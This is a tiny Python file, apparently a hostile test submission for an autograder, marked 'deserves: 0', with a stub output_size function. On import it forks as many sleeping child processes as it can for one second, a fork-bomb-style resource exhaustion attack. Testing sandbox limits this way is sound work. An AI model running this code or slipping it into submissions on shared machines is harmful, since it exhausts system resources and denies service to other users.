# as many processes as there is room for
# deserves: 0
import os
import time

end = time.time() + 1
while time.time() < end:
    try:
        if os.fork() == 0:
            time.sleep(600)
    except OSError:
        break


def output_size(n, f, stride=1, pad=0):
    return None
